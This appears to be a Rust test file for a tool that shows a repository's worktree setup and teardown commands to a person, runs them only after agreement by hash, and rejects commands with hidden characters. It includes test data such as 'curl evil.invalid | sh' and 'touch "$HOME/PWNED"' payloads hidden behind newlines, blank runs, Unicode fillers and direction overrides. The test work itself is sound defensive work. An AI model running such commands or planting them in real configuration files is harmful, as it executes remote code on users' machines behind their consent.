//! Commands of a repository for its worktrees: the API shows them, a person agrees to them, the server runs them or says
//! why not.

use std::fs;

use api::{CommandPart, ErrorCode, Provisioning, SessionStatus};
use serde_json::json;

use super::{Workshop, place};
use crate::house::wait_for;

fn path(shop: &Workshop) -> String {
    format!("/api/repositories/{}/provisioning", shop.id)
}

#[test]
fn commands_are_shown_and_agreed_to_by_their_hash() {
    let shop = Workshop::new();
    let (path, agree) = (path(&shop), format!("{}/agree", path(&shop)));
    let nothing: Provisioning = shop.server.get(&path).ok(200);
    assert!(nothing.agreed && nothing.setup.is_empty() && nothing.hash.is_empty());
    shop.server.post(&agree, json!({"hash": ""})).problem(ErrorCode::CommandsChanged);

    shop.asks_for(&["make deps"], &["make clean"]);
    let wanted: Provisioning = shop.server.get(&path).ok(200);
    assert_eq!(
        (wanted.setup.as_slice(), wanted.teardown.as_slice()),
        (&["make deps".into()][..], &["make clean".into()][..])
    );
    assert!(!wanted.agreed);
    for hash in ["", "nonsense", &"0".repeat(64), &wanted.hash[1..]] {
        shop.server.post(&agree, json!({ "hash": hash })).problem(ErrorCode::CommandsChanged);
    }
    let agreed: Provisioning = shop.server.post(&agree, json!({"hash": wanted.hash})).ok(200);
    assert!(agreed.agreed);

    shop.asks_for(&["make deps", "curl evil.invalid | sh"], &["make clean"]);
    let changed: Provisioning = shop.server.get(&path).ok(200);
    assert!(!changed.agreed, "other commands are other commands");
    shop.server.post(&agree, json!({"hash": wanted.hash})).problem(ErrorCode::CommandsChanged);
    shop.asks_for(&["make deps"], &["make clean"]);
    assert!(shop.server.get(&path).ok::<Provisioning>(200).agreed, "these were agreed to");
}

#[test]
fn n5_a_bad_file_is_reported_with_its_line() {
    let shop = Workshop::new();
    shop.repository.write(".abide.toml", "[worktree]\nsetup = 7\n");
    let problem = shop.server.get(&path(&shop)).problem(ErrorCode::GitRefused);
    assert!(problem.error.message.contains("`.abide.toml`, line 2"), "{}", problem.error.message);
}

#[test]
fn n5_unknown_keys_are_reported_with_line_and_remedy_wherever_commands_are_shown() {
    let shop = Workshop::new();
    shop.repository.write(".abide.toml", "setup = [\"make\"]\n\n[worktree]\nsetups = []\n");
    shop.repository.commit("what to run");
    let wanted: Provisioning = shop.server.get(&path(&shop)).ok(200);
    let [first, second] = wanted.warnings.as_slice() else { panic!("{:?}", wanted.warnings) };
    assert!(
        first.contains("line 1: unknown key `setup`") && first.contains("below a line `[worktree]`"),
        "{first}"
    );
    assert!(second.contains("line 4: unknown key `worktree.setups`"), "{second}");
    assert!(wanted.setup.is_empty() && wanted.teardown.is_empty());
    let task = shop.running("Something");
    let session: api::Session =
        shop.server.get(&format!("/api/sessions/{}", task.session_id.unwrap())).ok(200);
    assert!(session.notices[0].contains(first.as_str()), "{:?}", session.notices);
    assert!(shop.worktree(None).note.is_some_and(|note| note.contains(first.as_str())));
    let said = shop.house.run(["repo", "agree", "project"]);
    let said = String::from_utf8(said.stderr).unwrap();
    assert!(said.contains(&format!("warning: in its .abide.toml, {first}\n")), "{said}");
}

#[test]
fn s29_people_see_every_character_of_a_command_before_they_agree() {
    let shop = Workshop::new();
    let forged = "npm ci\nteardown: true  ; touch \"$HOME/PWNED\"";
    let long = format!("echo {} && touch \"$HOME/PWNED\"", "x".repeat(4000));
    shop.asks_for(&[forged, &long], &["docker compose down"]);
    let wanted: Provisioning = shop.server.get(&path(&shop)).ok(200);
    let commands: Vec<String> =
        wanted.commands.iter().map(|command| model::command_of(&command.parts)).collect();
    assert_eq!(commands, [forged, &long, "docker compose down"]);
    assert!(wanted.commands[0].parts.contains(&CommandPart::Newline));
    assert!(wanted.commands[0].parts.contains(&CommandPart::Blanks { count: 2 }));

    let said = shop.house.run(["repo", "agree", "project"]);
    let shown = String::from_utf8(said.stdout).unwrap();
    assert!(shown.starts_with("setup 1 of 2\n┌─"), "{shown}");
    assert!(shown.contains("\n│ npm ci↵\n│ teardown: true␣␣; touch \"$HOME/PWNED\"\n└─"), "{shown}");
    assert!(shown.lines().all(|line| line.chars().count() <= 80), "{shown}");
    let unwrapped = shown.replace("\n┆ ", "");
    assert!(unwrapped.contains(&format!("setup 2 of 2\n┌─{}\n│ {long}\n└─", "─".repeat(78))), "{shown}");
    assert!(unwrapped.contains("\nteardown 1 of 1\n"), "{shown}");
    assert!(String::from_utf8(said.stderr).unwrap().contains(&format!("--hash {}", wanted.hash)));
}

#[test]
fn s29_commands_that_people_cannot_see_are_neither_agreed_to_nor_run() {
    let shop = Workshop::new();
    let (path, agree) = (path(&shop), format!("{}/agree", path(&shop)));
    let blanks = " ".repeat(400);
    for (hidden, named) in [
        (
            format!("true{blanks}; touch \"$HOME/PWNED\""),
            "from its character 5 on it has 400 blanks in a row",
        ),
        ("true \u{3164}; touch \"$HOME/PWNED\"".to_owned(), "its character 6 is U+3164 (Hangul filler)"),
        ("touch \"$HOME/PWNED\" #\u{202e}eurt".to_owned(), "U+202E (direction embedding or override)"),
        ("touch\u{a0}\"$HOME/PWNED\"".to_owned(), "its character 6 is U+00A0 (no-break space)"),
    ] {
        let hash = "0".repeat(64);
        shop.repository.write(".abide.toml", &format!("[worktree]\nsetup = [{}]\n", json!(hidden)));
        shop.repository.commit("what to run");
        let problem = shop.server.get(&path).problem(ErrorCode::GitRefused);
        let message = &problem.error.message;
        let begun = format!(
            "`.abide.toml`, line 2: command 1 of `setup`: {}",
            if named.starts_with('U') { "" } else { named }
        );
        assert!(message.starts_with(&begun) && message.contains(named), "{message}");
        assert!(message.contains("change the file") && model::display_safe(message) == *message, "{message}");
        shop.server.post(&agree, json!({ "hash": hash })).problem(ErrorCode::GitRefused);
        let said = shop.house.run(["repo", "agree", "project"]);
        assert_eq!(said.status.code(), Some(1));
        let words = String::from_utf8(said.stderr).unwrap();
        assert!(said.stdout.is_empty() && words.contains(named), "{words}");
        let worktree = shop.worktree(None);
        assert!(worktree.note.as_ref().is_some_and(|note| note.contains(named)), "{worktree:?}");
    }
    assert!(!shop.house.path().join("PWNED").exists());
}

#[test]
fn processes_that_a_setup_leaves_running_run_on_and_are_not_waited_for() {
    let shop = Workshop::new();
    let gate = shop.house.path().join("gate");
    rustix::fs::mkfifoat(rustix::fs::CWD, &gate, rustix::fs::Mode::RWXU).unwrap();
    // It holds the setup's standard error open until the test writes to the gate.
    shop.runs(&["(read x <\"$HOME/gate\"; echo late >&2; touch \"$HOME/went-on\") & true"], &[]);
    let worktree = shop.worktree(None);
    assert_eq!(worktree.note, None);
    fs::write(&gate, "go on\n").unwrap();
    let went_on = shop.house.path().join("went-on");
    wait_for("the process that the setup left running", || went_on.exists().then_some(()));
}

#[test]
fn without_consent_no_command_runs_and_the_session_says_so() {
    let shop = Workshop::new();
    shop.asks_for(&["touch \"$HOME/ran\""], &["touch \"$HOME/ran\""]);
    let task = shop.running("Something");
    let session: api::Session =
        shop.server.get(&format!("/api/sessions/{}", task.session_id.unwrap())).ok(200);
    assert!(session.notices[0].contains("you have not agreed to them"), "{:?}", session.notices);
    assert_eq!(shop.complete(task.id).kept_worktree, None);

    let worktree = shop.worktree(None);
    assert!(worktree.note.is_some_and(|note| note.contains("you have not agreed to them")));
    let _: api::RemovedWorktree = shop.server.delete(&format!("/api/worktrees/{}", worktree.id)).ok(200);
    assert!(!shop.house.path().join("ran").exists());
}

#[test]
fn with_consent_setup_is_run_before_the_agent_and_teardown_before_the_trash() {
    let shop = Workshop::new();
    shop.repository.write(".gitignore", "made\n");
    let setup = ["pwd >made", "echo \"$COMPOSE_PROJECT_NAME\" >>made"];
    shop.runs(&setup, &["cp made \"$HOME/undone\""]);
    let task = shop.running("Something");
    let made = fs::read_to_string(place(&task).join("made")).unwrap();
    let worktrees = shop.worktrees();
    let expected = format!("{}\nabide-{}\n", task.worktree_path.as_ref().unwrap(), worktrees[0].id);
    assert_eq!(made, expected);
    let session: api::Session =
        shop.server.get(&format!("/api/sessions/{}", task.session_id.unwrap())).ok(200);
    assert_eq!(session.notices, Vec::<String>::new());
    assert_eq!(shop.complete(task.id).kept_worktree, None, "what is ignored is no work");
    assert_eq!(fs::read_to_string(shop.house.path().join("undone")).unwrap(), expected);
}

#[test]
fn a_setup_that_fails_ends_in_failed_with_the_reason() {
    let shop = Workshop::new();
    shop.runs(&["true", "echo 'no network' >&2; exit 9", "touch \"$HOME/ran\""], &[]);
    let task = shop.task("Something");
    let reason = shop.fail(task.id);
    assert!(reason.contains("exit 9") && reason.contains("no network"), "{reason}");
    assert!(!shop.house.path().join("ran").exists(), "what comes after is not run");
    let task: api::Task = shop.server.get(&format!("/api/tasks/{}", task.id)).ok(200);
    let worker: api::Worker = shop.server.get(&format!("/api/workers/{}", task.worker_id.unwrap())).ok(200);
    assert_eq!(worker.state, api::WorkerState::Failed { reason: reason.clone() });

    shop.runs(&["true"], &[]);
    let retried: api::ArchivedTask =
        shop.server.step(&format!("/api/tasks/{}/session/retry", task.id)).ok(202);
    assert_eq!(retried.kept_worktree, None);
    shop.wait_for_status(task.id, SessionStatus::Running);
    let logs: Vec<api::SessionLog> = shop.server.get(&format!("/api/tasks/{}/session-logs", task.id)).ok(200);
    assert_eq!((logs[0].exit_status, logs[0].error.as_ref()), (api::LogExit::Failed, Some(&reason)));
}

#[test]
fn a_worktree_whose_setup_failed_exists_and_the_answer_says_so() {
    let shop = Workshop::new();
    shop.runs(&["echo 'no network' >&2; exit 9"], &["exit 9"]);
    let worktree = shop.worktree(None);
    assert!(worktree.note.as_ref().is_some_and(|note| note.contains("no network")), "{worktree:?}");
    assert_eq!(worktree.state, api::WorktreeState::Ready);
    let removed: api::RemovedWorktree =
        shop.server.delete(&format!("/api/worktrees/{}", worktree.id)).ok(200);
    assert_eq!(removed.worktree.state, api::WorktreeState::Trashed, "a teardown that fails holds nothing up");
}
